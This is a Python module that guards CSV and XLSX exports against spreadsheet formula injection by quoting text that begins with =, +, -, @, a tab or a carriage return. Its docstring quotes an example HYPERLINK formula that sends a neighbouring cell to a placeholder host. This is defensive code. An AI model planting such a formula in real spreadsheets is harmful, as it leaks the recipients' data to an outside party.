"""Spreadsheet cells that a spreadsheet program never runs (OWASP, "CSV injection").

Excel, LibreOffice and Google Sheets read text that begins with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return as the start of a formula: a tenant's legal name
``=HYPERLINK("https://x/?"&B8, "Details")`` would send a neighbouring cell to whoever
registered it. Every CSV and XLSX export writes its rows through this module, so such
text stays text:

- in CSV with a single quote in front (the program shows the rest as text);
- in XLSX as a string cell marked ``quotePrefix``: the cell holds the exact text, and
  editing it does not turn it into a formula either.

Only text is escaped: numbers (a negative amount such as an SLA credit included) are
written as numbers.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_like(value: Any) -> bool:
    """Whether ``value`` is text a spreadsheet program would read as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


class CsvWriter:
    """csv.writer whose rows have their formula-like text quoted."""

    def __init__(self, stream: TextIO) -> None:
        self._writer = csv.writer(stream)

    def writerow(self, values: Iterable[Any]) -> None:
        self._writer.writerow(["'" + value if formula_like(value) else value for value in values])


def append(sheet: Worksheet, values: Iterable[Any]) -> None:
    """Append ``values`` as the sheet's next row, formula-like text as string cells."""
    sheet.append([_text_cell(sheet, value) if formula_like(value) else value for value in values])


def _text_cell(sheet: Worksheet, text: str) -> Cell:
    cell = Cell(sheet, value=text)  # openpyxl types text that starts with "=" as a formula
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell
